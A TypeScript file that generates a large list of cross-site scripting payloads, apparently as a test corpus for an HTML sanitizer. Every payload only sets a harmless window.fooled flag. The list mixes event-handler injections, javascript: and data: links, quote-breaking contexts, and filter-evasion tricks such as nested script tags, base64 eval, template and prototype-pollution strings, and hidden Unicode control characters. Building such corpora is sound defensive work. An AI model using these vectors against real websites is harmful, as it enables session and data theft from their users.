/**
 * Three thousand ways to ask a page to run something, made by crossing what browsers have fallen for: where a script may
 * hide, what starts it, and how it is disguised. Each would set `window.fooled`.
 */
const act = 'window.fooled=1';
const hosts = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe'];
const starts = [
  'onerror',
  'onload',
  'ontoggle',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'ontransitionend',
  'onbeforetoggle',
  'onscrollend',
];
const quotes: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `"><${tag.slice(1)}`,
  (tag) => `'/>${tag}`,
  (tag) => `</textarea>${tag}`,
  (tag) => `</title>${tag}`,
  (tag) => `<!--${tag}-->${tag}`,
  (tag) => `]]>${tag}`,
  (tag) => `{@html '${tag}'}`,
  (tag) => `\${${tag}}`,
  (tag) => tag.replaceAll('<', '\u003c').toUpperCase(),
  (tag) => tag.replaceAll(' ', '/'),
  (tag) => tag.replaceAll(' ', '\t'),
  (tag) => tag.replace('=', ' = '),
  (tag) => `<b>${tag}</b>`,
];
const links = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,', 'vbscript:', '&#106;avascript:'];
const wraps: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">tap</a>`,
  (url) => `[tap](${url})`,
  (url) => `![tap](${url})`,
  (url) => `<form action="${url}"><button>tap</button></form>`,
  (url) => `<iframe srcdoc="<script>parent.${act}</script>" src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<math><mtext><a xlink:href="${url}">tap</a></mtext></math>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
];
const scripts = [
  `<script>${act}</script>`,
  `<scr<script>ipt>${act}</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<style>@import 'javascript:${act}';</style>`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${act})}">`,
  `<template><script>${act}</script></template>`,
  `<base href="javascript:${act}//">`,
  `{{constructor.constructor('${act}')()}}`,
  `__proto__[fooled]=1`,
  `<img src=x onerror=eval(atob('d2luZG93LmZvb2xlZD0x'))>`,
  `<x contenteditable onblur=${act}>`,
];

const all: readonly string[] = [
  ...hosts.flatMap((host) => starts.flatMap((start) => quotes.map((quote) => quote(`<${host} ${start}=${act}>`)))),
  ...hosts.flatMap((host) =>
    starts.flatMap((start) => quotes.map((quote) => quote(`<${host} ${start}="top['fool'+'ed']=1" x=`))),
  ),
  ...links.flatMap((link) => wraps.flatMap((wrap) => quotes.map((quote) => quote(wrap(`${link}${act}`))))),
  ...scripts.flatMap((script) => quotes.map((quote) => quote(script))),
  ...scripts.flatMap((script) => quotes.map((quote) => `‮${quote(script)}​`)),
];
export const payloads: readonly string[] = [...new Set(all)];
